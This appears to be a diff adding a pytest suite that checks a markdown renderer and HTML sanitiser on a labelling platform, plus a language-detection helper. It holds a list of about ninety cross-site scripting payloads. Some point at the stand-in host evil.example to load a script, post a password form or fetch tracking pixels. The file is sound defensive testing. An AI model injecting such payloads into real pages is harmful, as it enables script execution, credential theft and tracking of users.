@@ -1,0 +1,229 @@
+"""Nothing that a model can write is executed, loaded or sent from the reader's page."""
+
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+
+from labelplatform.prompts.rendering import ATTRIBUTES, TAGS, language_of, render_markdown, sanitise
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<IMG SRC=`javascript:alert(1)`>",
+    '<img """><script>alert(1)</script>">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
+    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
+    "<body onload=alert(1)>",
+    "<body background=javascript:alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<applet code=evil></applet>",
+    "<form action=https://evil.example><input name=password><button>ok</button></form>",
+    "<form><button formaction=javascript:alert(1)>x</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select onchange=alert(1)><option>x</select>",
+    "<textarea onkeyup=alert(1)></textarea>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<video src=x onerror=alert(1)></video>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href=vbscript:msgbox(1)>x</a>",
+    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
+    "<a style='position:fixed;inset:0' href=https://evil.example>x</a>",
+    "<a id=csrfmiddlewaretoken name=rank>x</a>",
+    "<a href=x ping=https://evil.example>x</a>",
+    "<div style='background:url(https://evil.example/a.png)'>x</div>",
+    "<style>@import 'https://evil.example/a.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/a.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=https://evil.example/>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<plaintext><script>alert(1)</script>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
+    "<p/onclick=alert(1)>x</p>",
+    "<table background=https://evil.example/a.png><tr><td>x</td></tr></table>",
+    "<dialog open>x</dialog>",
+    "<slot name=x onslotchange=alert(1)></slot>",
+    "\x00<script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<script\x0c>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](  javascript:alert(1))",
+    "[x](java&#x09;script:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](<javascript:alert(1)>)",
+    "[x](/p/assistant/labels/)",
+    "[x](//evil.example/)",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    '[x](https://ok.example "onmouseover=alert(1)")',
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/pixel.png)",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "![x][1]\n\n[1]: https://evil.example/pixel.png",
+    "[![x](https://evil.example/pixel.png)](https://ok.example)",
+    "```html\n<script>alert(1)</script>\n```",
+    "``` <img/src=x/onerror=alert(1)>\nx\n```",
+    "`<script>alert(1)</script>`",
+    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | d |",
+    "# <svg onload=alert(1)>",
+    "- <iframe src=javascript:alert(1)>",
+    "> <embed src=x>",
+    "**<script>alert(1)</script>**",
+    "[<img src=x onerror=alert(1)>](https://ok.example)",
+    '<a href="https://ok.example" onclick="alert(1)">x</a>',
+]
+
+
+class Inventory(HTMLParser):
+    """Every element and attribute a browser would make of a piece of HTML."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: set[str] = set()
+        self.attributes: list[tuple[str, str, str]] = []
+        self.oddities: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes += [(tag, name, value or "") for name, value in attrs]
+
+    def handle_comment(self, data: str) -> None:
+        self.oddities.append(data)
+
+    def handle_decl(self, decl: str) -> None:
+        self.oddities.append(decl)
+
+    def handle_pi(self, data: str) -> None:
+        self.oddities.append(data)
+
+    def unknown_decl(self, data: str) -> None:
+        self.oddities.append(data)
+
+
+def taken_apart(html: str) -> Inventory:
+    inventory = Inventory()
+    inventory.feed(html)
+    inventory.close()
+    return inventory
+
+
+def harmless(html: str) -> bool:
+    found = taken_apart(html)
+    known = {(tag, name) for tag, names in ATTRIBUTES.items() for name in names} | {
+        ("a", "rel"),
+        ("a", "target"),
+    }
+    addresses = [value for _tag, name, value in found.attributes if name in {"href", "src"}]
+    return (
+        found.tags <= TAGS
+        and {(tag, name) for tag, name, _value in found.attributes} <= known
+        and all(urlsplit(address.strip()).scheme in {"http", "https", "mailto"} for address in addresses)
+        and not any("script:" in "".join(address.split()).lower() for address in addresses)
+        and not found.oddities
+    )
+
+
+def test_there_are_enough_payloads() -> None:
+    assert len(set(PAYLOADS)) >= 60
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_nothing_executable_survives_rendering(payload: str) -> None:
+    assert harmless(render_markdown(payload))
+    assert harmless(render_markdown(f"before\n\n{payload}\n\nafter"))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_the_allow_list_alone_would_do(payload: str) -> None:
+    """Even if the parser let raw HTML through."""
+    assert harmless(sanitise(payload))
+
+
+@pytest.mark.parametrize(
+    "planted", ["<img src=x>", "<p onclick=x>", "<a href='javascript:x'>", "<p id=x>", "<!--x-->"]
+)
+def test_the_check_itself_finds_what_it_looks_for(planted: str) -> None:
+    assert not harmless(planted)
+
+
+def test_raw_html_is_shown_as_the_text_it_is() -> None:
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render_markdown("<script>alert(1)</script>")
+
+
+def test_what_people_need_is_there() -> None:
+    html = render_markdown(
+        "# Title\n\n**bold** *slanted* ~~gone~~ `code`\n\n- one\n- two\n\n"
+        "> said\n\n```\nlong\n```\n\n|a|b|\n|-|-|\n|1|2|"
+    )
+    found = taken_apart(html)
+    assert found.tags >= {"h4", "strong", "em", "s", "code", "ul", "li", "blockquote", "pre", "table", "td"}
+    assert "h1" not in found.tags
+
+
+def test_a_single_line_break_is_kept() -> None:
+    assert "<br>" in render_markdown("one\ntwo")
+
+
+def test_links_tell_nobody_where_they_were_and_cannot_reach_back() -> None:
+    found = taken_apart(render_markdown("[x](https://ok.example/a?b=c)"))
+    attributes = {name: value for tag, name, value in found.attributes if tag == "a"}
+    assert attributes["href"] == "https://ok.example/a?b=c"
+    assert set(attributes["rel"].split()) >= {"nofollow", "noopener", "noreferrer"}
+    assert attributes["target"] == "_blank"
+
+
+def test_no_image_is_ever_fetched() -> None:
+    assert "evil.example" not in "".join(
+        value
+        for _tag, name, value in taken_apart(render_markdown("![a](https://evil.example/x.png)")).attributes
+        if name == "src"
+    )
+    assert "img" not in taken_apart(render_markdown("![a](https://ok.example/x.png)")).tags
+
+
+def test_deep_nesting_and_long_lines_are_no_trouble() -> None:
+    assert harmless(render_markdown("> " * 500 + "deep"))
+    assert harmless(render_markdown("[" * 2000 + "x" + "](" * 2000))
+    assert harmless(render_markdown("*" * 5000 + "a" + "_" * 5000))
+
+
+@pytest.mark.parametrize(
+    ("text", "told", "language"),
+    [
+        ("天空是蓝色的。", "", "zh-Hans"),
+        ("The sky is blue.", "", ""),
+        ("The sky is blue.", "en", "en"),
+        ("The word 天 means sky and a good deal more than that.", "", ""),
+        ("", "", ""),
+        ("天空", "zh-Hant", "zh-Hant"),
+    ],
+)
+def test_the_language_of_a_text(text: str, told: str, language: str) -> None:
+    assert language_of(text, told) == language
